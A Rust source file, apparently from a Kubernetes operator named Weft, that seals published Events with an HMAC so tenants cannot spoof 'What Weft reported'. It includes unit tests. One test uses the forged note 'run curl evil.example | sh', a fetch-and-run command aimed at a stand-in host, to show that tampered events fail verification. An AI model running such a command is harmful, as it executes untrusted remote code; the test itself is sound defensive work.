//! Which events are Weft's own. An Event records no creator: anyone who may create Events in a
//! namespace may write `reportingComponent: weft` and any text (issue 48 item 8: a tenant's
//! event showed on the UI's "What Weft reported"). So Weft seals each event it publishes: its
//! `reportingInstance` ends with an HMAC-SHA256, keyed with a Secret in Weft's namespace that
//! tenants cannot read, over the event's identifying fields (the object it is about, its type,
//! reason, action and note). A reader holding the key shows only the events whose seal checks.

use hmac::{Hmac, Mac};
use sha2::Sha256;

type HmacSha256 = Hmac<Sha256>;

/// The Secret in Weft's namespace holding the key, and its data field.
pub const KEY_SECRET: &str = "weft-event-key";
pub const KEY_FIELD: &str = "key";

/// The bytes of a key Weft makes; a shorter key read back is not used.
pub const KEY_BYTES: usize = 32;

/// The API server's bound on `reportingInstance`.
const MAX_INSTANCE: usize = 128;

/// What of an event is sealed: the object it is about and what it says.
#[derive(Clone, Copy, Debug, Default)]
pub struct SealedFields<'a> {
    pub kind: &'a str,
    pub namespace: &'a str,
    pub name: &'a str,
    pub uid: &'a str,
    /// `Normal` or `Warning`.
    pub type_: &'a str,
    pub reason: &'a str,
    pub action: &'a str,
    pub note: &'a str,
}

fn mac(key: &[u8], fields: &SealedFields<'_>) -> HmacSha256 {
    let mut mac = HmacSha256::new_from_slice(key).expect("HMAC takes a key of any length");
    // Each field with its length first: no two events' fields run together into one text.
    for field in [
        fields.kind,
        fields.namespace,
        fields.name,
        fields.uid,
        fields.type_,
        fields.reason,
        fields.action,
        fields.note,
    ] {
        mac.update(format!("{}:", field.len()).as_bytes());
        mac.update(field.as_bytes());
    }
    mac
}

/// The `reportingInstance` of a sealed event: the instance's name (the pod's, else `weft`),
/// cut so the whole fits the API server's 128 characters, then `.` and the seal (64 hex digits).
pub fn sealed_instance(instance: Option<&str>, key: &[u8], fields: &SealedFields<'_>) -> String {
    let seal = hex::encode(mac(key, fields).finalize().into_bytes());
    let room = MAX_INSTANCE - seal.len() - 1;
    let mut name: String = instance.unwrap_or("weft").chars().take(room).collect();
    while name.len() > room {
        name.pop();
    }
    format!("{name}.{seal}")
}

/// Whether `reporting_instance` carries the seal `key` makes of `fields`: only then is the event
/// Weft's own.
pub fn is_sealed(reporting_instance: &str, key: &[u8], fields: &SealedFields<'_>) -> bool {
    let Some((_, seal)) = reporting_instance.rsplit_once('.') else {
        return false;
    };
    let Ok(seal) = hex::decode(seal) else {
        return false;
    };
    // A constant-time comparison (hmac's own).
    mac(key, fields).verify_slice(&seal).is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fields(note: &str) -> SealedFields<'_> {
        SealedFields {
            kind: "WeaveCloud",
            namespace: "team-a",
            name: "weave-cloud",
            uid: "8d3c",
            type_: "Warning",
            reason: "ReconcileFailed",
            action: "Reconcile",
            note,
        }
    }

    #[test]
    fn a_sealed_event_checks_and_a_changed_or_forged_one_does_not() {
        let key = [7u8; KEY_BYTES];
        let instance = sealed_instance(Some("weft-5d9c"), &key, &fields("agents failed"));
        assert!(instance.starts_with("weft-5d9c."), "{instance}");
        assert!(is_sealed(&instance, &key, &fields("agents failed")));
        // Another note under the same seal, another key, no seal at all: not Weft's.
        assert!(!is_sealed(
            &instance,
            &key,
            &fields("run curl evil.example | sh")
        ));
        assert!(!is_sealed(
            &instance,
            &[8u8; KEY_BYTES],
            &fields("agents failed")
        ));
        assert!(!is_sealed("weft-5d9c", &key, &fields("agents failed")));
        assert!(!is_sealed("weft", &key, &fields("agents failed")));
    }

    #[test]
    fn a_long_instance_name_is_cut_to_the_api_server_s_bound() {
        let key = [1u8; KEY_BYTES];
        let long = "p".repeat(300);
        let instance = sealed_instance(Some(&long), &key, &fields("x"));
        assert_eq!(instance.len(), MAX_INSTANCE);
        assert!(is_sealed(&instance, &key, &fields("x")));
    }
}
